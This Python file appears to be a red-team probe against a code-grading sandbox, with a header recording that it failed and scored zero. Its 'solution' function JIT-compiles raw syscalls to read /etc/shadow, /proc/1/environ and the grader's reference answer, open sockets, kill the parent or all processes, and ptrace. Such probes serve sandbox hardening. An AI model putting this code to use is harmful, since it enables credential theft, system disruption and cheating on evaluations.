# verdict: wrong in every check  - calls the kernel past every library
# tries: machine code of its own, compiled by llvmlite from inline assembly, makes system calls that no patched or
#        missing C function can stop: open, read and list the course, sockets to the outside, the parent's memory,
#        through the 64-bit entrance and with the numbers of the x32 interface. Prints what comes back.
# seen: gpu-mode/pygpubench got_patch, function_detour (below Python); ours
# points: 0
import ctypes
import os

import llvmlite.binding as llvm

IR = """
define i64 @call(i64 %n, i64 %a, i64 %b, i64 %c, i64 %d, i64 %e, i64 %f) {
  %r = call i64 asm sideeffect "syscall",
    "={rax},{rax},{rdi},{rsi},{rdx},{r10},{r8},{r9},~{rcx},~{r11},~{memory}"
    (i64 %n, i64 %a, i64 %b, i64 %c, i64 %d, i64 %e, i64 %f)
  ret i64 %r
}
"""
llvm.initialize_native_target()
llvm.initialize_native_asmprinter()
llvm.initialize_native_asmparser()
machine = llvm.Target.from_default_triple().create_target_machine()
engine = llvm.create_mcjit_compiler(llvm.parse_assembly(IR), machine)
engine.finalize_object()
call = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 7)(engine.get_function_address("call"))
OPEN, READ, SOCKET, KILL, READV, PTRACE, X32 = 2, 0, 41, 62, 310, 101, 0x40000000
FILES = (b"/etc/passwd", b"/etc/shadow", b"/srv/jitgrade/solutions/moving_average/moving_average.py", b"/proc/1/environ")


def text(data):
    buffer = ctypes.create_string_buffer(data)
    kept.append(buffer)
    return ctypes.addressof(buffer)


kept = []


def moving_average(values, window, out):
    buffer = ctypes.create_string_buffer(65536)
    place = ctypes.addressof(buffer)
    for extra in (0, X32):
        for file in FILES:
            descriptor = call(OPEN + extra, text(file), 0, 0, 0, 0, 0)
            if descriptor >= 0:
                count = call(READ + extra, descriptor, place, 65536, 0, 0, 0)
                own = b"NUMBA_NUM_THREADS" in buffer.raw[: max(count, 0)]
                print(file, "its own" if own else buffer.raw[: max(count, 0)], flush=True)
        tries = {
            "socket": (SOCKET, 2, 1, 0, 0, 0, 0),
            "kill": (KILL, os.getppid(), 0, 0, 0, 0, 0),
            "kill all": (KILL, -1, 0, 0, 0, 0, 0),
            "ptrace": (PTRACE, 16, os.getppid(), 0, 0, 0, 0),
        }
        for name, (number, *arguments) in tries.items():
            if call(number + extra, *arguments) >= 0:
                print(name, "worked", flush=True)
